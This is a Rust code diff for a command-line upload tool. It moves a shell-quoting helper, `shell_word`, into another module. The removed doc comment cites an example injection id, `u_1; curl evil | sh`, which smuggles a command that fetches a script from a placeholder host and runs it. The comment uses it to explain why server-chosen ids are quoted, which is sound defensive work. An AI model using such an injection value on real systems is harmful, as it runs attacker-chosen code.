@@ -13,6 +13,7 @@ use geopera::uploads::{Progress, Release, Upload, UploadCause, UploadError, Uplo
 use crate::auth;
 use crate::call::{self, Settings};
 use crate::failure::{Failure, Outcome};
+use crate::paint::shell_word;
 
 /// The `upload` command.
 pub(crate) fn command() -> Command {
@@ -288,17 +289,6 @@ pub(crate) fn release_advice(upload_id: Option<&str>) -> String {
                  'geopera uploads fail'"
             .to_owned(),
     }
-}
-
-/// `text`, chosen by the server, as one word a POSIX shell reads back unchanged: bare when it
-/// holds only characters no shell acts on, else in single quotes. Pasted bare into a
-/// suggested command, an id such as `u_1; curl evil | sh` would run what the server chose.
-pub(crate) fn shell_word(text: &str) -> String {
-    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-');
-    if !text.is_empty() && text.chars().all(plain) {
-        return text.to_owned();
-    }
-    format!("'{}'", text.replace('\'', r"'\''"))
 }
 
 #[cfg(test)]
